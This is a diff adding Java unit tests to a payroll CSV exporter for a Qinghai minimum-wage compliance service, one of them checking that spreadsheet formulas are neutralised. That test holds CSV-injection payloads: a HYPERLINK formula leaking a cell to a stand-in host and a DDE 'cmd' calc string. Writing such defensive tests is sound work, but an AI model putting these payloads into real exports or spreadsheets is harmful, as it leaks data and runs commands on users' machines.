@@ -57,8 +57,31 @@ class PayrollCsvTest {
     }
 
     @Test
+    void aHostileReferenceComesBackInertNotAsAFormula() {
+        String row = PayrollCsv.resultRow(4, ComplianceResult.newBuilder()
+                .setReference("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")").setCompliant(true)
+                .setCountedPay("1600.00").setMinimumRequired("1500.00").setShortfall("0.00").build());
+        assertTrue(row.startsWith("4,\"'=HYPERLINK("), row);
+        String plus = PayrollCsv.resultRow(5, ComplianceResult.newBuilder().setReference("@SUM(1+1)*cmd|' /C calc'!A0")
+                .build());
+        assertTrue(plus.startsWith("5,\"'@SUM("), plus);
+    }
+
+    @Test
     void serviceFieldPathsMapToFormFields() {
         assertEquals("grossPay", WagePages.recordField("records[0].grossPay"));
         assertEquals("date", WagePages.recordField("date"));
+    }
+
+    @Test
+    void employerTypeIsAnOptionalColumnAndUnknownTextReachesTheServiceAsInvalid() {
+        // 青政〔2017〕41号 二: the service refuses an uncovered or unknown employer type, naming the field
+        PayrollCsv csv = PayrollCsv.fromHeader(List.of("region", "period", "employment", "grossPay", "employerType"));
+        assertEquals(cn.gov.qinghai.wage.v1.EmployerType.STATE_ORGAN,
+                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", "state_organ")).getEmployerType());
+        assertEquals(cn.gov.qinghai.wage.v1.EmployerType.EMPLOYER_TYPE_UNSPECIFIED,
+                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", "")).getEmployerType());
+        assertEquals(cn.gov.qinghai.wage.v1.EmployerType.UNRECOGNIZED,
+                csv.record(List.of("630100", "2017-05", "FULL_TIME", "1500", "household")).getEmployerType());
     }
 }
